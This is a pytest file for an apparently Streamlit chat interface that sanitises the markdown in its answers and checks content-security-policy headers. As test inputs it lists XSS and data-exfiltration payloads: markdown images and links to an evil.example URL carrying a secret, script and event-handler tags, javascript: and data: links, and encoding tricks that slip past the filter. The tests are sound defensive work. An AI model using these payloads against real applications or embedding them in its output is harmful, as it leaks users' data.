"""Nothing in an answer loads from elsewhere or leads away, and every response says so to the browser."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import streamlit as st
from hypothesis import given
from hypothesis import strategies as some
from markdown_it import MarkdownIt
from markdown_it.token import Token
from starlette.testclient import TestClient
from streamlit.runtime import Runtime

from ui.safe import answer_markdown, literal
from ui.server import application, content_security_policy

MARKDOWN = MarkdownIt("commonmark")
EVIL = "https://evil.example/?d=secret"


def nodes(markdown: str) -> Iterator[Token]:
    waiting = list(MARKDOWN.parse(markdown))
    while waiting:
        node = waiting.pop(0)
        yield node
        waiting[:0] = node.children or []


def reached(markdown: str) -> list[str]:
    """Addresses outside the own origin that a rendered text loads or links to, and raw HTML."""
    found = [node.content for node in nodes(markdown) if node.type.startswith("html")]
    addresses = [str(node.attrs.get("src") or node.attrs.get("href") or "") for node in nodes(markdown)]
    return found + [address for address in addresses if urlsplit(address).scheme or urlsplit(address).netloc]


def read(markdown: str) -> str:
    """The words of a rendered text, with the name of everything that is more than words."""
    parts = []
    for node in nodes(markdown):
        if node.type in ("text", "code_block", "code_inline"):
            parts.append(node.content)
        elif node.type in ("softbreak", "hardbreak"):
            parts.append("\n")
        elif node.type not in ("inline", "paragraph_open", "paragraph_close"):
            parts.append(f"<{node.type}>")
    return "".join(parts)


def leaks(text: str, why: str) -> object:
    return pytest.param(text, id=f"{why}: {text[:12]}")


NESTED = "a bracket inside the text of a link or image is not seen"
DISGUISED = "escapes and entities in an address are resolved by the renderer, not here"
ELSEWHERE = "a reference is only taken out where it stands at the start of a line"


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})", f"![]({EVIL})", f"![x](\n{EVIL})", f'![x]({EVIL} "title")', f"!![x]({EVIL})",
        f"[看这里]({EVIL})", f"[x]({EVIL.upper()})", "[x](//evil.example)", "[x](javascript:alert(1))", "[x](data:text/html,x)",
        f"[![x]({EVIL})]({EVIL})", f"![x][i]\n\n[i]: {EVIL}", f"[x]\n\n[x]: {EVIL} 'title'", f"[x][i]\n\n[i]:\n{EVIL}",
        f"<{EVIL}>", "<mailto:a@evil.example>", f"<img src={EVIL}>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
        f"<a href='{EVIL}'>x</a>", "<svg/onload=alert(1)>", f"<style>@import '{EVIL}'</style>", f"<iframe src={EVIL}>",
        leaks(f"![a[b]c]({EVIL})", NESTED), leaks(f"[a[b]c]({EVIL})", NESTED), leaks(f"![a\\]b]({EVIL})", NESTED),
        leaks(f"[x][r\\]]\n\n[r\\]]: {EVIL}", NESTED),
        leaks(r"[x](\/\/evil.example)", DISGUISED), leaks(r"[x](https\://evil.example)", DISGUISED),
        leaks("[x](&#104;ttps://evil.example)", DISGUISED), leaks("[x](https&colon;//evil.example)", DISGUISED),
        leaks(f"![x][i]\n\n> [i]: {EVIL}", ELSEWHERE), leaks(f"![x][i]\n\n- [i]: {EVIL}", ELSEWHERE),
    ],
)  # fmt: skip
def test_an_answer_loads_nothing_and_leads_nowhere(text: str) -> None:
    assert reached(text) or "<" in text or "script" in text or "data:" in text  # the attack is one
    assert reached(answer_markdown(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "**结论**　第五十条 [1]",
        "- 一\n- 二\n\n> 引文",
        "### 1. Heading\n\n_note_",
        "a [1] b (see 2)",
        "第（一）项 [x] y",
    ],
)
def test_an_answers_own_markdown_stays(text: str) -> None:
    assert read(answer_markdown(text)) == read(text)


@pytest.mark.parametrize("text", ["US$5 to US$10", "$x^2$", "$$\\int$$"])
def test_money_is_not_a_formula(text: str) -> None:
    assert not re.search(r"(?<!\\)\$", answer_markdown(text))
    assert not re.search(r"(?<!\\)\$", literal(text))


def test_a_remark_in_brackets_is_not_swallowed() -> None:
    assert "this matters" in answer_markdown("[Note]: this matters.")


def shown(text: str) -> str:
    """A user's words as they are read: the joiner that keeps an address from being one is invisible."""
    return read(literal(text)).replace("\u2060", "")


@pytest.mark.parametrize(
    "text", ["http://evil.example/a", "see HTTPS://evil.example", "(www.evil.example)", "[点这里](http://evil.example)"]
)
def test_an_address_a_user_types_is_no_address_to_the_renderer(text: str) -> None:
    # the renderer looks for addresses in what it shows, where escapes are gone
    assert not re.search(r"(?i)https?://|www\.", read(literal(text)))


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})", f"[x]({EVIL})", f"<img src={EVIL}>", "# h", "> q", "1. x", "1) x", "+ x", "* x", "- x", "a\n---", "`x`",
        "```\nx\n```", "~~x~~", "**粗** _斜_", "[x]: http://e.example", "$x$ :smile: :red[x] :material/home:", "a\\\nb", "C:\\new",
        "|a|b|\n|-|-|", "!x",
        leaks("&lt;b&gt; &amp; &copy;", "an ampersand is not escaped"), leaks("Title\n===", "an equals sign is not escaped"),
    ],
)  # fmt: skip
def test_a_users_words_are_shown_as_typed(text: str) -> None:
    assert shown(text) == text


@given(some.text(alphabet=some.sampled_from("ab专利 .,!?*_`~[]()<>{}#+-|\\$:/'\"@^%1")))
def test_no_words_of_a_user_become_markup(text: str) -> None:
    words = " ".join(text.split())
    assert shown(words) == words
    assert reached(literal(text)) == []


@pytest.fixture(scope="module")
def served(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """The web application in this process, on a home that shares the built index."""
    folder = tmp_path_factory.mktemp("served")
    (folder / "index").symlink_to(home / "index", target_is_directory=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Runtime, "_instance", None)  # Streamlit allows one a process
        patch.setenv("IPOS_HOME", str(folder))
        patch.chdir(folder)
        st.cache_resource.clear()
        with TestClient(application(), raise_server_exceptions=False) as client:
            yield client


@pytest.mark.parametrize(
    "path", ["/", "/chat", "/_stcore/health", "/api/health/live", "/api/nothing", "/static/none.js", "/favicon.png"]
)
def test_every_response_carries_the_security_headers(served: TestClient, path: str) -> None:
    headers = served.get(path).headers
    assert headers.get_list("content-security-policy") == [content_security_policy()]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-frame-options"] == "DENY"


def test_the_policy_lets_nothing_load_from_elsewhere(served: TestClient) -> None:
    rules = dict(rule.strip().split(" ", 1) for rule in content_security_policy().split(";"))
    assert rules["default-src"] == "'self'"
    assert rules["img-src"] == "'self' data: blob:"
    assert rules["object-src"] == rules["frame-ancestors"] == "'none'"
    assert rules["form-action"] == rules["base-uri"] == "'self'"
    assert "'unsafe-inline'" not in rules["script-src"]
    assert not re.search(r"https?:|\*", content_security_policy())
    inline = re.findall(r"<script>(.*?)</script>", served.get("/").text, re.DOTALL)
    assert len(re.findall(r"'sha256-", rules["script-src"])) == len(inline)  # the page's own script, and no other


def test_the_policy_lets_no_socket_be_opened_to_elsewhere() -> None:
    assert "connect-src 'self';" in content_security_policy()


def test_health_is_answered_beside_the_page(served: TestClient) -> None:
    assert served.get("/api/health/live").json() == {"status": "ok"}
    ready = served.get("/api/health/ready")
    assert (ready.status_code, ready.json()) == (200, {"status": "ready", "mend": []})


@pytest.mark.parametrize(
    ("path", "way"),
    [("/chat", "./"), ("/chat?lang=en&c=1", "./?lang=en&c=1"), ("/a/b/c", "./../../"), ("/static/none.js", "./../")],
)
def test_an_address_that_names_no_page_leads_to_the_page(served: TestClient, path: str, way: str) -> None:
    response = served.get(path, follow_redirects=False)
    assert (response.status_code, response.headers["location"], response.text) == (307, way, "")
    assert str(served.get(path).url.path) == "/"


@pytest.mark.parametrize("path", ["/", "/index.html", "/favicon.png", "/_stcore/health", "/_stcore/host-config"])
def test_what_streamlit_serves_itself_stays_where_it_is(served: TestClient, path: str) -> None:
    assert served.get(path, follow_redirects=False).status_code == 200
